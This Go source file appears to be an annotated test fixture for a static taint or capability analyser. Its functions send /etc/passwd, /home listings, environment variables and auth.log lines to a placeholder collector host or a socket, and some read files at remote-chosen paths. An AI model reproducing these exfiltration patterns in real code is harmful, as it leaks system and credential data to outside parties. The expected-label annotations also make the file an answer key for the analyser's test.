// Files, their names and attributes: os, io/ioutil, io/fs, path/filepath, embed, mmap.
package models

import (
	"io"
	"io/fs"
	"io/ioutil"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"

	"github.com/fsnotify/fsnotify"
	"github.com/nxadm/tail"
	"golang.org/x/exp/mmap"
)

const U = "https://collector.example/u?"

func readFile(c net.Conn) {
	b, _ := os.ReadFile("/etc/passwd") //~ source(FILE) f1, capability(FILES)
	c.Write(b) //~ sink(egress.socket) f1, finding(traced) f1
}

func readFileChosen(c net.Conn) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f2
	os.ReadFile(string(b)) //~ sink(file.path) f2, finding(traced) f2
}

func readFileNamed(c net.Conn) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f3
	data, _ := os.ReadFile(string(b)) //~ source(FILE) f3c
	c.Write(data) //~ sink(egress.socket) f3c, finding(remote-directed-file-collection, traced) f3c
}

func readFileConstant(c net.Conn) {
	b, _ := os.ReadFile("/etc/passwd") //~ ok
	c.Write([]byte(strconv.Itoa(len(b)))) //~ ok
}

func open() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f5, capability(FILES)
	http.Post(U, "", f) //~ sink(egress.http) f5, finding(traced) f5
}

func opened() {
	os.WriteFile("/tmp/t", []byte(os.Getenv("T")), 0o600) //~ source(ENVIRONMENT) f6
	f, _ := os.Open("/tmp/t") //~ source(FILE) f6b
	http.Post(U, "", f) //~ sink(egress.http) f6, finding(traced) f6, sink(egress.http) f6b, finding(traced) f6b
}

func openOnly() {
	f, _ := os.Open("/etc/passwd") //~ ok
	defer f.Close()
}

func openToWrite() {
	f, _ := os.OpenFile("/tmp/t", os.O_WRONLY|os.O_CREATE, 0o600) //~ capability(FILE_WRITE)
	f.Close()
}

func openToRead() {
	os.OpenFile("/tmp/t", os.O_RDONLY, 0) //~ ok
}

func create() {
	f, _ := os.Create("/tmp/u") //~ capability(FILE_WRITE)
	f.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f10
	b, _ := os.ReadFile("/tmp/u") //~ source(FILE) f10b
	http.Get(U + string(b)) //~ sink(egress.http) f10, finding(traced) f10, sink(egress.http) f10b, finding(traced) f10b
}

func createConstant() {
	f, _ := os.Create("/tmp/v") //~ ok
	f.WriteString("ping") //~ ok
}

func temporary() {
	f, _ := os.CreateTemp("", "t") //~ capability(FILE_WRITE)
	f.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f12
	f.Seek(0, io.SeekStart)
	http.Post(U, "", f) //~ sink(egress.http) f12, finding(traced) f12
}

func temporaryConstant() {
	f, _ := os.CreateTemp("", "t") //~ ok
	f.WriteString("ping")
	http.Post(U, "", f) //~ ok
}

func writeFile() {
	response, _ := http.Get(U) //~ source(NETWORK) f14
	b, _ := io.ReadAll(response.Body)
	os.WriteFile("/tmp/w", b, 0o600) //~ sink(file.write) f14, finding(traced) f14, capability(FILE_WRITE)
}

func writeFileConstant() {
	os.WriteFile("/tmp/w", []byte("ping"), 0o600) //~ ok
}

func fileWritten() {
	response, _ := http.Get(U) //~ source(NETWORK) f16
	b, _ := io.ReadAll(response.Body)
	f, _ := os.Create("/tmp/w")
	f.Write(b) //~ sink(file.write) f16, finding(traced) f16
}

func fileWrittenConstant() {
	f, _ := os.Create("/tmp/w")
	f.Write([]byte("ping")) //~ ok
}

func fileName() {
	f, _ := os.CreateTemp("", "t")
	f.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f18
	b, _ := os.ReadFile(f.Name()) //~ source(FILE) f18b
	http.Get(U + string(b)) //~ sink(egress.http) f18, finding(traced) f18, sink(egress.http) f18b, finding(traced) f18b
}

func fileNameConstant() {
	f, _ := os.CreateTemp("", "t")
	http.Get(U + filepath.Base(f.Name())) //~ ok
}

func fileStat() {
	f, _ := os.CreateTemp("", "t")
	info, _ := f.Stat() //~ source(FILE_META) f20, capability(FILES)
	http.Get(U + info.Name()) //~ sink(egress.http) f20, finding(traced) f20
}

func fileStatOnly() {
	f, _ := os.CreateTemp("", "t")
	_, err := f.Stat() //~ ok
	http.Get(U + err.Error()) //~ ok
}

func fileMode() {
	f, _ := os.Open("/etc/passwd")
	err := f.Chmod(0o600) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func globbed() {
	names, _ := filepath.Glob("/home/*") //~ source(FILE_META) f23, capability(FILES)
	http.Get(U + names[0]) //~ sink(egress.http) f23, finding(traced) f23
}

func globbedOnly() {
	filepath.Glob("/home/*") //~ ok
}

func listedOld() {
	entries, _ := ioutil.ReadDir("/home") //~ source(FILE_META) f25, capability(FILES)
	for _, entry := range entries {
		http.Get(U + entry.ModTime().String()) //~ sink(egress.http) f25, finding(traced) f25
	}
}

func listedOldOnly() {
	ioutil.ReadDir("/home") //~ ok
}

func listed() {
	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f27, capability(FILES)
	for _, entry := range entries {
		http.Get(U + entry.Name()) //~ sink(egress.http) f27, finding(traced) f27
	}
}

func listedOnly() {
	_, err := os.ReadDir("/home") //~ ok
	http.Get(U + err.Error()) //~ ok
}

func stat() {
	info, _ := os.Stat("/etc/passwd") //~ source(FILE_META) f29, capability(FILES)
	http.Get(U + info.Name()) //~ sink(egress.http) f29, finding(traced) f29
}

func statOnly() {
	_, err := os.Stat("/etc/passwd") //~ ok
	http.Get(U + err.Error()) //~ ok
}

func described(info os.FileInfo) {
	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f31
	http.Get(U + info.Name()) //~ sink(egress.http) f31, finding(traced) f31
}

func describedConstant(info os.FileInfo) {
	http.Get(U + info.Name()) //~ ok
}

func changed(info os.FileInfo) {
	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f33
	http.Get(U + info.ModTime().String()) //~ sink(egress.http) f33, finding(traced) f33
}

func changedConstant(info os.FileInfo) {
	http.Get(U + info.ModTime().String()) //~ ok
}

func entryInfo(entry os.DirEntry) {
	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f35
	entry = entries[0]
	info, _ := entry.Info()
	http.Get(U + info.Name()) //~ sink(egress.http) f35, finding(traced) f35
}

func entryInfoConstant(entry os.DirEntry) {
	info, _ := entry.Info() //~ ok
	http.Get(U + info.Name()) //~ ok
}

func walked() {
	filepath.WalkDir("/home", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f37, capability(FILES)
		http.Get(U + path) //~ sink(egress.http) f37, finding(traced) f37
		return nil
	})
}

func walkedRemotely(c net.Conn) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f38
	filepath.WalkDir(string(b), func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f38b
		c.Write([]byte(path)) //~ sink(egress.socket) f38b, finding(remote-directed-listing, traced) f38b
		return nil
	})
}

func walkedOnly() {
	filepath.WalkDir("/home", func(path string, entry fs.DirEntry, err error) error { return nil }) //~ ok
}

func walkedSystem() {
	fs.WalkDir(os.DirFS("/home"), ".", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f40, capability(FILES)
		http.Get(U + path) //~ sink(egress.http) f40, finding(traced) f40
		return nil
	})
}

func walkedSystemOnly() {
	fs.WalkDir(os.DirFS("/home"), ".", func(path string, entry fs.DirEntry, err error) error { return nil }) //~ ok
}

func directory(c net.Conn) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f42
	data, _ := fs.ReadFile(os.DirFS(string(b)), "passwd") //~ source(FILE) f42c
	c.Write(data) //~ sink(egress.socket) f42c, finding(remote-directed-file-collection, traced) f42c
}

func directoryOpened() {
	f, _ := os.DirFS("/etc").Open("passwd") //~ source(FILE) f43
	http.Post(U, "", f) //~ sink(egress.http) f43, finding(traced) f43
}

func directoryConstant() {
	entries, _ := fs.ReadDir(os.DirFS("/etc"), ".") //~ ok
	_ = entries
}

func readFileOf(c net.Conn, fsys fs.FS) {
	b, _ := fs.ReadFile(fsys, "passwd") //~ source(FILE) f45, capability(FILES)
	c.Write(b) //~ sink(egress.socket) f45, finding(traced) f45
}

func readFileOfOnly(fsys fs.FS) {
	fs.ReadFile(fsys, "passwd") //~ ok
}

func statOf(fsys fs.FS) {
	info, _ := fs.Stat(fsys, "passwd") //~ source(FILE_META) f47, capability(FILES)
	http.Get(U + info.Name()) //~ sink(egress.http) f47, finding(traced) f47
}

func statOfOnly(fsys fs.FS) {
	fs.Stat(fsys, "passwd") //~ ok
}

func readDirOf(fsys fs.FS) {
	entries, _ := fs.ReadDir(fsys, ".") //~ source(FILE_META) f49, capability(FILES)
	http.Get(U + entries[0].Name()) //~ sink(egress.http) f49, finding(traced) f49
}

func readDirOfOnly(fsys fs.FS) {
	fs.ReadDir(fsys, ".") //~ ok
}

func openOf(fsys fs.FS) {
	f, _ := fsys.Open("passwd") //~ source(FILE) f51, capability(FILES)
	http.Post(U, "", f) //~ sink(egress.http) f51, finding(traced) f51
}

func openOfOnly(fsys fs.FS) {
	fsys.Open("passwd") //~ ok
}

func joined() {
	http.Get(U + filepath.Join("/", os.Getenv("T"))) //~ source(ENVIRONMENT) f53, sink(egress.http) f53, finding(traced) f53
	http.Get(U + filepath.Join("a", "b")) //~ ok
}

func base() {
	http.Get(U + filepath.Base(os.Getenv("T"))) //~ source(ENVIRONMENT) f54, sink(egress.http) f54, finding(traced) f54
	http.Get(U + filepath.Base("/a/b")) //~ ok
}

func absolute() {
	p, _ := filepath.Abs(os.Getenv("T")) //~ source(ENVIRONMENT) f55
	http.Get(U + p) //~ sink(egress.http) f55, finding(traced) f55
}

func absoluteConstant() {
	p, _ := filepath.Abs("a") //~ ok
	http.Get(U + p) //~ ok
}

func splitPath() {
	dir, _ := filepath.Split(os.Getenv("T")) //~ source(ENVIRONMENT) f57
	http.Get(U + dir) //~ sink(egress.http) f57, finding(traced) f57
}

func splitPathConstant() {
	dir, _ := filepath.Split("/a/b") //~ ok
	http.Get(U + dir) //~ ok
}

func matchedPath() {
	yes, _ := filepath.Match("*.txt", os.Getenv("T")) //~ ok
	http.Get(U + strconv.FormatBool(yes)) //~ ok
}

func renamed() {
	os.WriteFile("/tmp/a", []byte(os.Getenv("T")), 0o600) //~ source(ENVIRONMENT) f60
	os.Rename("/tmp/a", "/tmp/b") //~ capability(FILE_WRITE)
	b, _ := os.ReadFile("/tmp/b") //~ source(FILE) f60b
	http.Get(U + string(b)) //~ sink(egress.http) f60, finding(traced) f60, sink(egress.http) f60b, finding(traced) f60b
}

func renamedConstant() {
	os.Rename("/tmp/c", "/tmp/d") //~ ok
}

func removed() {
	os.Remove("/tmp/a") //~ capability(FILE_WRITE)
}

func removedNamed() {
	err := os.Remove(os.Getenv("T")) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func pipe() {
	r, w, _ := os.Pipe() //~ capability(IPC)
	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f64
	http.Post(U, "", r) //~ sink(egress.http) f64, finding(traced) f64
}

func pipeConstant() {
	r, w, _ := os.Pipe() //~ ok
	w.WriteString("ping")
	http.Post(U, "", r) //~ ok
}

func mapped(c net.Conn) {
	r, _ := mmap.Open("/etc/passwd") //~ source(FILE) f66, capability(FILES)
	b := make([]byte, 64)
	r.ReadAt(b, 0)
	c.Write(b) //~ sink(egress.socket) f66, finding(traced) f66
}

func mappedOnly() {
	mmap.Open("/etc/passwd") //~ ok
}

func watched() {
	w, _ := fsnotify.NewWatcher() //~ capability(FILES)
	event := <-w.Events //~ source(FILE_META) f68
	http.Get(U + event.Name) //~ sink(egress.http) f68, finding(traced) f68
}

func watchedOnly() {
	w, _ := fsnotify.NewWatcher() //~ ok
	w.Add("/home")
}

func watchedNames(w *fsnotify.Watcher) {
	for event := range w.Events { //~ source(FILE_META) f70
		http.Get(U + event.Name) //~ sink(egress.http) f70, finding(traced) f70
	}
}

func watchedCount(w *fsnotify.Watcher) {
	event := <-w.Events //~ ok
	http.Get(U + strconv.FormatBool(event.Name == "x")) //~ ok
}

func tailed() {
	t, _ := tail.TailFile("/var/log/auth.log", tail.Config{}) //~ source(FILE) f990
	for line := range t.Lines {
		http.Get(U + line.Text) //~ sink(egress.http) f990, finding(traced) f990
	}
	none, _ := tail.TailFile("/var/log/auth.log", tail.Config{}) //~ ok
	http.Get(U + none.Filename) //~ ok
}
